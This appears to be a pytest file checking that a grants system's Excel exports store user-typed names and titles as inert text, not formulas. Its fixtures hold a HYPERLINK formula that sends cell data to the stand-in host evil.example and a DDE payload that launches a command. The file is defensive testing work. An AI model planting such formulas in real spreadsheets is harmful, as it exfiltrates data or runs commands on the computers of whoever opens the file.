"""Every officer export writes text typed by organizations and applicants; none of it may run as a formula."""

import io

import pytest
from openpyxl import load_workbook

from core.excel import Column, build_workbook
from tests.factories import OfficerFactory, OrganizationFactory
from tests.factories.grants import approved_application, make_grant

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_inert(content: bytes, *texts: str):
    cells = _cells(content)
    for text in texts:
        matching = [cell for cell in cells if isinstance(cell.value, str) and text in cell.value]
        assert matching, f"{text!r} is missing from the export"
        for cell in matching:
            assert cell.data_type == "s", f"{cell.coordinate} is stored as {cell.data_type!r}: {cell.value!r}"
            assert cell.value.startswith("'"), f"{cell.coordinate} would run: {cell.value!r}"
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.fixture
def hostile(db):
    """An organization and an application whose names are formulas, with a grant, visible to a province officer."""
    officer = OfficerFactory(region_code="420000")
    organization = OrganizationFactory(region_code="420102", name=HYPERLINK)
    application = approved_application(organization=organization)
    application.title = DDE
    application.save(update_fields=["title"])
    make_grant(officer=officer, application=application)
    return {"officer": officer, "application": application}


def test_the_organization_export_writes_a_formula_name_as_text(client, hostile):
    client.force_login(hostile["officer"])
    response = client.get("/organizations/officer/export/?status=")
    assert response.status_code == 200
    _assert_inert(response.getvalue(), HYPERLINK)


def test_the_call_export_writes_formula_names_and_titles_as_text(client, hostile):
    client.force_login(hostile["officer"])
    response = client.get(f"/programs/work/calls/{hostile['application'].call_id}/export.xlsx")
    assert response.status_code == 200
    _assert_inert(response.getvalue(), HYPERLINK, DDE)


def test_the_grant_export_writes_formula_names_and_titles_as_text(client, hostile):
    client.force_login(hostile["officer"])
    response = client.get("/grants/export.xlsx")
    assert response.status_code == 200
    _assert_inert(response.getvalue(), HYPERLINK, DDE)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_neutralised_and_numbers_stay_numbers(text):
    from decimal import Decimal

    content = build_workbook(
        sheet_title="t",
        columns=[Column("文本", lambda r: r[0]), Column("金额", lambda r: r[1]), Column("整数", lambda r: r[2])],
        rows=[(text, Decimal("-12.50"), -3)],
    )
    _header_a, _header_b, _header_c, text_cell, money, integer = _cells(content)
    assert text_cell.data_type == "s"
    assert text_cell.value.startswith("'")  # (XML reads a carriage return back as a line feed)
    assert (money.data_type, money.value) == ("n", -12.5)
    assert (integer.data_type, integer.value) == ("n", -3)


def test_column_widths_past_z_land_on_their_own_column():
    columns = [Column(f"列{i}", lambda r, i=i: i, width=10 + i) for i in range(30)]
    sheet = load_workbook(io.BytesIO(build_workbook(sheet_title="t", columns=columns, rows=[()]))).worksheets[0]
    assert sheet.column_dimensions["Z"].width == 10 + 25
    assert sheet.column_dimensions["AA"].width == 10 + 26
    assert sheet.column_dimensions["AD"].width == 10 + 29
    assert sheet.column_dimensions["A"].width == 10
